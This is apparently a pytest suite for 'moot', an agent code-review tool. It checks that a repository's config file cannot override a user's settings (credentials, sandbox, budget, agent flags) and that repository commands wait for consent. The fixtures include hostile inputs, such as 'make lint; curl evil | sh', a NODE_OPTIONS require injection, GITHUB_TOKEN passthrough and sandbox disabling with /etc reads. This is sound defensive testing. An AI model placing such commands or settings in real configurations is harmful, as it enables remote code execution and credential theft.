"""What a repository's file may not do. A failure here is a way for a repository to act as the person."""

from __future__ import annotations

import pytest

from moot.config.consent import commands_in, digest
from moot.config.layers import Layer, Trust
from moot.config.load import repository_commands

PERSON = '[agents.opus]\nkind = "claude"\naccount = "mine"\nenv = { KEY = "mine" }\n[accounts.mine]\nconcurrency = 1\n'


@pytest.mark.parametrize(
    ("key", "text"),
    [
        ("agents.opus.env", '[agents.opus.env]\nKEY = "theirs"\nNODE_OPTIONS = "--require=x"\n'),
        ("agents.opus.pass_env", '[agents.opus]\npass_env = ["GITHUB_TOKEN"]\n'),
        ("agents.opus.program", '[agents.opus]\nprogram = "./claude"\n'),
        ("agents.opus.account", '[agents.opus]\naccount = "theirs"\n'),
        ("agents.opus.args", '[agents.opus]\nargs = ["--dangerously-skip-permissions"]\n'),
        ("accounts", "[accounts.mine]\nconcurrency = 99\n"),
        ("ledger", '[ledger]\nurl = "postgresql://elsewhere/db"\n'),
        ("sandbox", '[sandbox]\nmode = "off"\nread = ["/etc"]\n'),
        ("budget.expected_turn_usd", "[budget]\nexpected_turn_usd = 0.0\n"),
    ],
)
def test_a_repository_cannot_set_what_is_the_persons_own(place, key, text):
    place.user(PERSON)
    before = place.load().config
    place.repo(text)
    loaded = place.load()
    assert loaded.config == before
    (notice,) = loaded.notices
    assert notice.startswith(".moot.toml:")
    assert notice.endswith(f'"{key}" is ignored: a repository cannot set it')


def test_a_repository_may_tighten_a_budget_but_not_loosen_it(place):
    place.user("[budget]\nrun_cost_usd = 20\nrun_turns = 10\n")
    place.repo("[budget]\nrun_cost_usd = 500\nrun_turns = 5\nday_tokens = 1000\n")
    loaded = place.load()
    budget = loaded.config.budget
    assert (budget.run_cost_usd, budget.run_turns, budget.day_tokens) == (20, 5, 1000)
    assert loaded.notices == ('.moot.toml:2: "budget.run_cost_usd" is ignored: a repository cannot raise your 20',)


def test_an_included_file_of_a_repository_is_no_more_trusted(place):
    place.repo('include = ["ci.toml"]\n')
    place.repo('[sandbox]\nmode = "off"\n', "ci.toml")
    loaded = place.load()
    assert loaded.config.sandbox.mode == "prefer"
    assert loaded.notices == ('ci.toml:1: "sandbox" is ignored: a repository cannot set it',)


COMMANDS = """
[agents.mine]
kind = "command"
command = ["python3", "tools/review me.py", "{base}"]
[agents.other]
kind = "claude"
substitutes = ["mine"]
[roles.careful]
agent = "mine"
[roles.security]
agent = "other"
after = ["careful", "ruff"]
[review]
reviewers = ["careful", "security", "mine"]
judge = "careful"
checks = ["make test", "make lint"]
roles = ["careful"]
[policy]
required = ["careful"]
optional = ["mine", "analyzers"]
"""


def test_commands_of_a_repository_are_left_out_until_allowed_with_all_that_needs_them(place):
    place.repo(COMMANDS)
    loaded = place.load()
    config = loaded.config
    assert set(config.agents) == {"other"}
    assert config.agents["other"].substitutes == ()
    assert set(config.roles) == {"security"}
    assert config.roles["security"].after == ("ruff",)
    assert (config.review.reviewers, config.review.judge, config.review.checks) == (("security",), "", ())
    assert config.review.roles == ()
    assert config.policy.optional == ("analyzers",)
    assert loaded.withheld.names == {"mine", "careful"}
    assert [c.text for c in loaded.withheld.commands] == [
        "python3 'tools/review me.py' '{base}'",
        "make test",
        "make lint",
    ]
    assert loaded.notices == (
        ".moot.toml: 3 commands wait for your consent and are left out "
        "(agents.mine.command, review.checks): moot config allow",
    )


def test_a_seat_that_policy_requires_stays_required_when_its_command_is_left_out(place):
    place.repo(COMMANDS)
    assert place.load().config.policy.required == ("careful",)


def test_allowed_commands_are_in_force_without_a_word(place):
    place.repo(COMMANDS)
    commands, agreed = repository_commands(place.repository)
    loaded = place.load(allowed=lambda asked: asked == agreed)
    assert loaded.config.agent("mine").command == ("python3", "tools/review me.py", "{base}")
    assert loaded.config.review.checks == ("make test", "make lint")
    assert (loaded.notices, loaded.withheld.commands, loaded.consent) == ((), (), agreed)
    assert [c.key for c in commands] == ["agents.mine.command", "review.checks", "review.checks"]


@pytest.mark.parametrize(
    "changed",
    [
        COMMANDS.replace("make lint", "make lint; curl evil | sh"),
        COMMANDS.replace('"{base}"', '"{head}"'),
        COMMANDS.replace('"make test", "make lint"', '"make test"'),
        COMMANDS.replace('"make test", "make lint"', '"make lint", "make test"'),
        COMMANDS.replace("mine", "yours"),
        COMMANDS + '[agents.more]\nkind = "analyzer"\ncommand = ["semgrep"]\n',
    ],
)
def test_any_change_of_the_commands_asks_again(place, changed):
    place.repo(COMMANDS)
    _, agreed = repository_commands(place.repository)
    assert changed != COMMANDS
    place.repo(changed)
    loaded = place.load(allowed=lambda asked: asked == agreed)
    assert loaded.withheld.commands
    assert loaded.config.review.checks == ()


def test_other_changes_do_not_ask_again(place):
    place.repo(COMMANDS)
    _, agreed = repository_commands(place.repository)
    place.repo('# a remark\nlanguage = "de"\n' + COMMANDS)
    assert not place.load(allowed=lambda asked: asked == agreed).withheld.commands


def test_consent_in_one_repository_is_none_in_another(place):
    commands = commands_in([Layer("x", Trust.REPOSITORY, {"review": {"checks": ["make"]}})])
    assert digest(place.folder / "a", commands) != digest(place.folder / "b", commands)


def test_a_split_between_key_and_command_cannot_be_moved(place):
    one = commands_in([Layer("x", Trust.REPOSITORY, {"review": {"checks": ["a b"]}})])
    two = commands_in([Layer("x", Trust.REPOSITORY, {"review": {"checks": ["a", "b"]}})])
    assert digest(place.folder, one) != digest(place.folder, two)


def test_the_persons_own_command_of_the_same_name_stays(place):
    place.user('[agents.mine]\nkind = "command"\ncommand = ["own"]\nenv = { TOKEN = "x" }\n')
    place.repo('[agents.mine]\ncommand = ["./evil"]\n[review]\nreviewers = ["mine"]\n')
    config = place.load().config
    assert config.agent("mine").command == ("own",)
    assert config.review.reviewers == ("mine",)


def test_a_list_of_nothing_but_withheld_seats_leaves_the_persons_own(place):
    place.user('[agents.opus]\nkind = "claude"\n[review]\nreviewers = ["opus"]\n')
    place.repo('[agents.mine]\nkind = "command"\ncommand = ["x"]\n[review]\nreviewers = ["mine"]\n')
    assert place.load().config.review.reviewers == ("opus",)


def test_a_person_who_names_a_withheld_seat_is_told_how_to_allow_it(place):
    place.repo('[agents.mine]\nkind = "command"\ncommand = ["x"]\n')
    assert place.refusal(flags={"review.reviewers": ["mine"]}) == (
        'command line: "review.reviewers" must name an agent, role or analyzer; '
        '"mine" waits for its command to be allowed\nnext: moot config allow'
    )


def test_commands_split_over_included_files_are_all_withheld(place):
    place.repo('include = ["a.toml"]\n[roles.r]\nruns = "always"\n')
    place.repo('[agents.mine]\nkind = "command"\ncommand = ["x"]\n[roles.r]\nagent = "mine"\n', "a.toml")
    loaded = place.load()
    assert (loaded.config.agents, loaded.config.roles) == ({}, {})
